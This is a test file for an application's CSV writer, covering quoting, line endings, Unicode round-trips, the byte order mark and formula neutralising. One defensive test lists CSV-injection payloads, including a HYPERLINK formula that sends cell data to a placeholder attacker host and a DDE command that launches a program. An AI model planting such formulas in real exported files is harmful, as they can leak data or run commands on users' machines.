import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseFormula, toCsv } from '../../../electron/core/text/csv';
import { parseCsv } from '../../helpers/csv';

describe('the shared CSV writer', () => {
  it('quotes fields as RFC 4180 says and ends every line in CRLF', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(toCsv([['a', 'b'], ['c', 'd']])).toBe('a,b\r\nc,d\r\n');
  });

  it('neutralises every cell a spreadsheet would run as a formula (OWASP: = + - @ tab CR)', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    for (const cell of hostile) {
      const written = csvCell(cell);
      const [[readBack]] = parseCsv(`${written}\r\n`) as [[string]];
      expect(readBack, JSON.stringify(cell)).toBe(`'${cell}`);
    }
    expect(neutraliseFormula('Kosovo = NATO?')).toBe('Kosovo = NATO?');
    expect(neutraliseFormula('')).toBe('');
  });

  it('writes numbers as numbers, even negative ones, and empty cells for nothing', () => {
    expect(toCsv([[3, -2.5, null, undefined, Number.NaN, true]])).toBe("3,-2.5,,,,true\r\n");
  });

  it('round-trips awkward text exactly, apart from the apostrophe before a formula', () => {
    const rows = [
      ['Vučić, Radoičić and the "north"', 'line one\r\nline two', '=1+1', 'ç ë š ž'],
      ['', ' leading space', 'trailing,comma,', '"'],
    ];
    const parsed = parseCsv(toCsv(rows));
    expect(parsed).toEqual([
      ['Vučić, Radoičić and the "north"', 'line one\r\nline two', "'=1+1", 'ç ë š ž'],
      ['', ' leading space', 'trailing,comma,', '"'],
    ]);
  });

  it('starts with a UTF-8 byte order mark only when asked (for Excel)', () => {
    expect(toCsv([['Vučić']]).charCodeAt(0)).toBe('V'.charCodeAt(0));
    const withBom = toCsv([['Vučić']], { bom: true });
    expect([...Buffer.from(withBom, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.slice(1)).toBe('Vučić\r\n');
  });
});
